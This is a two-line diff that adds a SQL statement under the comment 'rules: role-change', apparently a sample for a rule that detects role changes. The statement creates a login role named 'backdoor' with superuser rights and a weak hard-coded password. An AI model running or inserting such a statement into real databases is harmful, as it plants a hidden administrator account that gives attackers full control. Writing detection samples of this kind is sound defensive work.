@@ -1,0 +1,2 @@
+-- rules: role-change
+CREATE ROLE backdoor LOGIN SUPERUSER PASSWORD 'hunter2';
